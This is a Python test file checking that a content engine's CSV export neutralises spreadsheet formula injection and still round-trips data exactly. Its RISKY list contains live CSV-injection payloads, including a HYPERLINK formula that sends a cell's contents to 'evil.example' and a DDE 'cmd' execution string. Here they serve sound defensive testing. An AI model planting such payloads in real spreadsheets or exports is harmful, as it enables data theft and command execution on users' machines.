"""CSV exports are safe to open in a spreadsheet and still round-trip exactly.

Text cells that begin with a formula character get an apostrophe (and an apostrophe
gets another); an import removes it. Every cell with CR or LF is quoted, so a bare CR
cannot start a new row. Numbers stay numbers. ``--raw-cells`` / ``raw_cells=True`` opt out.
"""

from __future__ import annotations

import csv
import io
import json

from polysynergy_nodes_content.content_engine.engine import ContentEngine
from polysynergy_nodes_content.content_engine.transfer import stream as transfer

RISKY = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'apostrophe first",
    "''two apostrophes",
    "'=looks neutralised",
    "a\rb,\"c\"\rd",  # a bare CR inside: must be quoted, or it starts a new row
    "line one\nline two",
    "\r\n",
    "plain",
    "it's fine",
]


def _section(run, handle):
    run("sections", "create", handle)
    for args in (("title", "-t", "text"), ("n", "-t", "integer"), ("ratio", "-t", "number"),
                 ("price", "-t", "decimal"), ("meta", "-t", "json"), ("pos", "-t", "integer")):
        run("fields", "add", handle, *args)
    run("migrations", "apply", run.json("migrations", "plan", handle)["migration"]["id"], "--yes")


def _rows():
    return [{"title": text, "n": -i - 1, "ratio": -0.5 - i, "price": f"-{i}.25", "meta": {"v": text}, "pos": i}
            for i, text in enumerate(RISKY)]


def _stored(run, section):
    entries = run.json("entries", "query", section, "-o", "pos", "-l", "1000")["entries"]
    return [{k: e[k] for k in ("title", "n", "ratio", "price", "meta", "pos")} for e in entries]


def _csv_rows(path):
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def test_csv_export_neutralises_formulas_quotes_cr_and_round_trips_exactly(run, tmp_path):
    _section(run, "notes")
    run.json("entries", "create", "notes", json.dumps(_rows()))
    original = _stored(run, "notes")
    assert [e["title"] for e in original] == RISKY  # stored exactly as written

    out = tmp_path / "notes.csv"
    assert run.json("entries", "export", "notes", out, "-o", "pos")["exported"] == len(RISKY)
    rows = _csv_rows(out)
    assert len(rows) == len(RISKY) + 1  # no bare CR started a row of its own
    header = rows[0]
    title, n, ratio, price = (header.index(c) for c in ("title", "n", "ratio", "price"))
    for text, row in zip(RISKY, rows[1:]):
        cell = row[title]
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
        if text.startswith(("=", "+", "-", "@", "\t", "\r", "'")):
            assert cell == "'" + text
        else:
            assert cell == text
        assert row[n].startswith("-") and row[ratio].startswith("-") and row[price].startswith("-")  # numbers
    raw = out.read_bytes().decode("utf-8")
    assert '"a\rb,""c""\rd"' in raw and '"line one\nline two"' in raw

    # Import into a copy of the section: every value as it was.
    _section(run, "copy")
    assert run.json("entries", "import", "copy", out)["imported"] == len(RISKY)
    assert _stored(run, "copy") == original
    # JSON Lines carries the values as they are, and round-trips too.
    lines = tmp_path / "notes.jsonl"
    run("entries", "export", "notes", lines, "-o", "pos")
    assert [json.loads(line)["title"] for line in lines.read_text(encoding="utf-8").splitlines()] == RISKY
    _section(run, "copy_jsonl")
    run("entries", "import", "copy_jsonl", lines)
    assert _stored(run, "copy_jsonl") == original


def test_raw_cells_opt_out_writes_and_reads_cells_as_they_are(run, tmp_path):
    _section(run, "notes")
    run.json("entries", "create", "notes", json.dumps(_rows()))
    out = tmp_path / "raw.csv"
    run("entries", "export", "notes", out, "-o", "pos", "--raw-cells")
    rows = _csv_rows(out)
    assert len(rows) == len(RISKY) + 1  # still quoted where it has to be
    title = rows[0].index("title")
    assert [row[title] for row in rows[1:]] == RISKY
    # A raw import keeps an apostrophe that a default import would take for the export's mark.
    source = tmp_path / "marks.csv"
    source.write_text("title,pos\n'=1+1,1\n''x,2\n'plain,3\n", encoding="utf-8")
    _section(run, "raw_in")
    run("entries", "import", "raw_in", source, "--raw-cells")
    assert [e["title"] for e in _stored(run, "raw_in")] == ["'=1+1", "''x", "'plain"]
    _section(run, "restored_in")
    run("entries", "import", "restored_in", source)
    assert [e["title"] for e in _stored(run, "restored_in")] == ["=1+1", "'x", "'plain"]


def test_engine_export_and_import_neutralise_by_default(run, database_url):
    _section(run, "notes")
    _section(run, "copy")
    engine = ContentEngine(database_url)
    engine.create_entries("notes", _rows())
    safe, raw = io.StringIO(), io.StringIO()
    transfer.export_entries(engine, "notes", safe, "csv", order_by="pos")
    transfer.export_entries(engine, "notes", raw, "csv", order_by="pos", raw_cells=True)
    safe_titles = [r["title"] for r in csv.DictReader(io.StringIO(safe.getvalue(), newline=""))]
    raw_titles = [r["title"] for r in csv.DictReader(io.StringIO(raw.getvalue(), newline=""))]
    assert raw_titles == RISKY
    assert safe_titles[0] == "'" + RISKY[0] and safe_titles[-1] == RISKY[-1]
    transfer.import_entries(engine, "copy", io.BytesIO(safe.getvalue().encode("utf-8")), "csv")
    assert _stored(run, "copy") == _stored(run, "notes")
    lines = io.StringIO()
    transfer.export_entries(engine, "notes", lines, "jsonl", order_by="pos")
    _section(run, "copy_jsonl")
    transfer.import_entries(engine, "copy_jsonl", io.BytesIO(lines.getvalue().encode("utf-8")), "jsonl")
    assert _stored(run, "copy_jsonl") == _stored(run, "notes")
